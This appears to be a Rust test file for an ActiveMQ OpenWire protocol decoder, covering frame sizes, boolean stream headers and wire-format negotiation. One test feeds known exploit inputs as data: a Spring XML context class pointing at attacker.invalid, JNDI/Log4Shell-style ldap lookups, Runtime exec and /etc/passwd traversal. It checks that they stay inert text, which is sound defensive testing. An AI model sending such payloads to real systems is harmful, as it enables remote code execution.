//! Headers, negotiation, and names that must stay text.

use bytes::{BufMut, BytesMut};
use wharfmq_openwire::{
    Decoder, Encoder, Error, ExceptionResponse, Format, MAGIC, Proposal, Structure, Throwable,
    WireFormatInfo, frame_len,
};

use super::wire::{Body, LOOSE, TIGHT};

#[test]
fn sizes_of_frames() {
    assert_eq!(frame_len(&[0, 0, 0], 10), Ok(None));
    for (size, expected) in [
        (1_i32, Ok(Some(5))),
        (10, Ok(Some(14))),
        (11, Err(Error::TooLarge("the size of a frame", 10))),
        (i32::MAX, Err(Error::TooLarge("the size of a frame", 10))),
        (0, Err(Error::Truncated)),
        (-1, Err(Error::Negative("the size of a frame"))),
        (i32::MIN, Err(Error::Negative("the size of a frame"))),
    ] {
        assert_eq!(frame_len(&size.to_be_bytes(), 10), expected, "{size}");
    }
    assert!(Decoder::new(LOOSE).decode(&bytes::Bytes::new()).is_err());
}

/// All forms of the header of the boolean stream, whether or not a shorter one would do.
#[test]
fn headers_of_the_boolean_stream() {
    let keep_alive = |header: &[u8], bits: &[u8]| Body::of(10).raw(header).raw(bits).int(7).read(TIGHT);
    for (header, bits) in [
        (&[1][..], 1),
        (&[63], 63),
        (&[0xc0, 1], 1),
        (&[0xc0, 64], 64),
        (&[0xc0, 255], 255),
        (&[0x80, 0, 1], 1),
        (&[0x80, 1, 0], 256),
        (&[0x80, 0xff, 0xff], 65_535),
    ] {
        let mut stream = vec![0; bits];
        stream[0] = 1;
        let Ok(Structure::KeepAliveInfo(read)) = keep_alive(header, &stream) else { panic!("{header:02x?}") };
        assert!(read.response_required && read.command_id == 7);
    }
    for header in [&[0][..], &[0xc0, 0], &[0x80, 0, 0]] {
        assert_eq!(keep_alive(header, &[]), Err(Error::Truncated), "no bit at all");
    }
    for header in [64_u8, 0x7f, 0x81, 0xbf, 0xc1, 0xff] {
        assert!(matches!(keep_alive(&[header], &[0; 300]), Err(Error::TooLarge(..))), "{header:#x}");
    }
    for header in [&[60][..], &[0xc0, 200], &[0xc0], &[0x80, 0xff, 0xff], &[0x80, 0], &[0x80]] {
        assert_eq!(keep_alive(header, &[]), Err(Error::Truncated), "{header:02x?}");
    }
    assert_eq!(Body::of(10).read(TIGHT), Err(Error::Truncated));
}

#[test]
fn names_of_classes_stay_text() {
    for (class, message) in [
        (
            "org.springframework.context.support.ClassPathXmlApplicationContext",
            "http://attacker.invalid/a.xml",
        ),
        ("org.springframework.context.support.FileSystemXmlApplicationContext", "file:///etc/passwd"),
        ("java.lang.Runtime", "exec"),
        ("javax.naming.InitialContext", "ldap://attacker.invalid/a"),
        ("[Ljava.lang.String;", ""),
        ("../../../../etc/passwd", "\u{0}"),
        ("", "${jndi:ldap://attacker.invalid/a}"),
        (&*"x".repeat(30_000), "long"),
    ] {
        for format in [LOOSE, TIGHT] {
            let exception = Some(Box::new(Throwable::new(class, message)));
            let sent = ExceptionResponse { exception, ..Default::default() };
            let mut out = BytesMut::new();
            Encoder::new(format).encode(&sent, &mut out);
            let read = Decoder::new(format).decode(&out.freeze().slice(4..)).unwrap();
            assert_eq!(read, Structure::ExceptionResponse(Box::new(sent)));
            let Structure::ExceptionResponse(read) = read else { panic!("{read:?}") };
            let exception = read.exception.unwrap();
            assert_eq!(exception.class.unwrap().decode(), class);
            assert_eq!(exception.message.unwrap().decode(), message);
        }
    }
}

/// The bytes of a property of WireFormatInfo.
fn property(name: &str, kind: u8, value: &[u8]) -> Vec<u8> {
    let mut out = BytesMut::new();
    out.put_u16(name.len() as u16);
    out.put_slice(name.as_bytes());
    out.put_u8(kind);
    out.put_slice(value);
    out.to_vec()
}

fn proposal(count: i32, properties: &[Vec<u8>]) -> Result<Proposal, Error> {
    let map = [&count.to_be_bytes()[..], &properties.concat()].concat();
    Proposal::read(&WireFormatInfo { magic: MAGIC, version: 12, marshalled_properties: Some(map.into()) })
}

#[test]
fn proposals_that_cannot_be_meant() {
    let info = |magic: &[u8; 8], version| {
        Proposal::read(&WireFormatInfo { magic: *magic, version, marshalled_properties: None })
    };
    assert_eq!(info(b"ActiveMQ", 12).map(|proposal| proposal.version), Ok(12));
    assert_eq!(info(b"ActiveMQ", 99).map(|proposal| proposal.version), Ok(99));
    assert_eq!(info(b"activemq", 12), Err(Error::Magic));
    assert_eq!(info(&[0; 8], 12), Err(Error::Magic));
    for version in [0, -1, i32::MIN] {
        assert_eq!(info(b"ActiveMQ", version), Err(Error::Version(version)));
    }
    let known = property("CacheSize", 5, &7_i32.to_be_bytes());
    assert_eq!(proposal(1, std::slice::from_ref(&known)).map(|proposal| proposal.cache_size), Ok(7));
    assert!(proposal(64, &vec![known.clone(); 64]).is_ok());
    for (count, properties) in [(65, 65), (i32::MAX, 1)] {
        let read = proposal(count, &vec![known.clone(); properties]);
        assert!(matches!(read, Err(Error::TooLarge(..))), "{read:?}");
    }
    assert_eq!(proposal(2, std::slice::from_ref(&known)), Err(Error::Truncated));
    for (kind, value) in
        [(11, &[0; 4][..]), (12, &[0; 4]), (10, &[0; 4]), (13, &[0; 4]), (7, &[0; 8]), (99, &[])]
    {
        assert!(matches!(proposal(1, &[property("x", kind, value)]), Err(Error::Property(_))), "{kind}");
    }
    for (name, kind, value) in [
        ("CacheSize", 1, &[1][..]),
        ("CacheSize", 9, &[0, 1, b'7']),
        ("CacheSize", 6, &[0x7f; 8]),
        ("CacheSize", 0, &[]),
        ("TightEncodingEnabled", 5, &[0, 0, 0, 1]),
        ("MaxInactivityDuration", 1, &[1]),
        ("CacheSize", 5, &[0]),
    ] {
        let read = proposal(1, &[property(name, kind, value)]);
        assert!(matches!(read, Err(Error::Property(_))), "{name} {kind}: {read:?}");
    }
    let long = [&5_000_u16.to_be_bytes()[..], &[b'x'; 5_000]].concat();
    assert!(proposal(1, &[property("Host", 9, &long)]).is_err());
    assert!(proposal(1, &[property(&"x".repeat(5_000), 1, &[1])]).is_err());
}

#[test]
fn no_version_reads_a_first_frame_otherwise() {
    let first = Body::of(1).raw(MAGIC).int(12).raw([0]);
    for version in 1..=12 {
        let format = Format { version, ..Format::default() };
        assert!(first.read(format).is_ok());
    }
}
